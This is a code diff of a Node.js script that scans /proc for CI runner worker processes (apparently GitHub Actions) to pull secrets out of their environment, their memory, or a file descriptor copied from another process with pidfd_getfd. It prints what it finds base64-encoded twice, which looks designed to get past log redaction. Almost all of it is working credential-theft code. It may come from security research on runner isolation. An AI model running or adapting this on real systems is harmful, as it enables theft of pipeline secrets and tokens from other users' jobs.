@@ -1,15 +1,29 @@
 // Searches what every other process holds, or was started with, for a secret, and prints it in base64, twice.
+import { spawnSync } from 'node:child_process';
 import { closeSync, openSync, readdirSync, readFileSync, readSync } from 'node:fs';
 
 const STEP = 4 * 2 ** 20;
 for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name) && name !== String(process.pid))) {
   try {
-    if (!readFileSync(`/proc/${pid}/cmdline`, 'latin1').includes('Runner.Worker')) continue;
-    if (process.argv[2] === 'proc-environ') tell(readFileSync(`/proc/${pid}/environ`, 'latin1'));
+    if (!isRunner(pid)) continue;
+    if (process.argv[2] === 'taken-descriptor') take(pid);
+    else if (process.argv[2] === 'proc-environ') tell(readFileSync(`/proc/${pid}/environ`, 'latin1'));
     else search(pid);
   } catch (error) {
     console.log(error.code);
   }
+}
+
+function isRunner(pid) {
+  // What it was called with is gone where a shell became another program.
+  const name = process.argv[2] === 'taken-descriptor' ? 'sleep\x001000' : 'Runner.Worker';
+  return readFileSync(`/proc/${pid}/cmdline`, 'latin1').includes(name);
+}
+
+/** Its descriptor 9, as it is. */
+function take(pid) {
+  const calls = [`pidfd_open ${pid} 0`, 'pidfd_getfd =0 9 0', 'read =1 b:100 100', 'show 2 0'];
+  console.log(spawnSync('/opt/replay/call', calls, { encoding: 'latin1' }).stdout);
 }
 
 function tell(text) {
